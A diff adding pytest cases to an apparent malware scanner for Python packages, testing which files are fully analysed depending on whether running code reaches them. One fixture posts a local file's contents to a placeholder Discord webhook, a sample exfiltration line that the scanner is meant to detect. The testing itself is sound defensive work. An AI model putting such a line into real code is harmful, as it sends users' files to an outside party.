@@ -1344,3 +1344,66 @@ def test_sending_the_working_directory_and_user_to_a_fixed_host_stays_flagged() 
     """
     result = scan({"demo/__init__.py": "", "demo/report.py": src})
     assert "intent.exfiltration" in rules(result, "high"), result.findings
+
+
+# -- code nothing installed runs: read for what it holds, in full only when running code names it --
+
+
+NETWORK_TEST = """
+    import subprocess
+    import requests
+
+    def test_upload():
+        requests.post("https://discord.com/api/webhooks/123456/abcdefgh", data=open("x").read())
+        subprocess.run(["git", "status"])
+"""
+
+
+def test_a_test_nothing_names_is_read_for_its_constants_not_its_calls() -> None:
+    result = scan({"demo/__init__.py": "VERSION = '1.0'\n", "tests/test_net.py": NETWORK_TEST})
+    found = {(f.rule, f.path.rpartition("/")[2]) for f in result.findings}
+    assert ("indicator.messenger-webhook", "test_net.py") in found  # its text still counts
+    assert not any(f.category in ("network", "process") for f in result.findings)
+
+
+def test_a_test_the_package_loads_by_name_is_read_in_full() -> None:
+    init = """
+        import importlib
+        importlib.import_module("demo.tests.helper")
+    """
+    files = {"demo/__init__.py": init, "demo/tests/helper.py": EXFIL_ON_IMPORT}
+    assert "intent.exfiltration" in rules(scan(files))
+
+
+def test_an_example_setup_py_runs_by_path_is_read_in_full() -> None:
+    setup = """
+        import runpy
+        from setuptools import setup
+        runpy.run_path("examples/post_install.py")
+        setup(name="demo")
+    """
+    result = scan({"setup.py": setup, "examples/post_install.py": EXFIL_ON_IMPORT})
+    assert "intent.exfiltration" in rules(result)
+
+
+def test_a_test_an_entry_point_names_is_read_in_full() -> None:
+    files = {
+        "demo/__init__.py": "VERSION = '1.0'\n",
+        "demo/tests/cli.py": EXFIL_ON_IMPORT,
+        "demo.egg-info/entry_points.txt": "[console_scripts]\ndemo-check = demo.tests.cli:main\n",
+    }
+    assert "intent.exfiltration" in rules(scan(files))
+
+
+def test_a_test_named_by_a_test_that_running_code_names_is_read_in_full() -> None:
+    files = {
+        "demo/__init__.py": "import importlib\nimportlib.import_module('demo.tests.entry')\n",
+        "demo/tests/entry.py": "from demo.tests import payload_helper\n",
+        "demo/tests/payload_helper.py": EXFIL_ON_IMPORT,
+    }
+    assert "intent.exfiltration" in rules(scan(files))
+
+
+def test_a_test_that_does_not_parse_is_still_reported() -> None:
+    files = {"demo/__init__.py": "VERSION = '1.0'\n", "tests/test_broken.py": "def f(:\n"}
+    assert "analysis.parse-failed" in {f.rule for f in scan(files).findings}
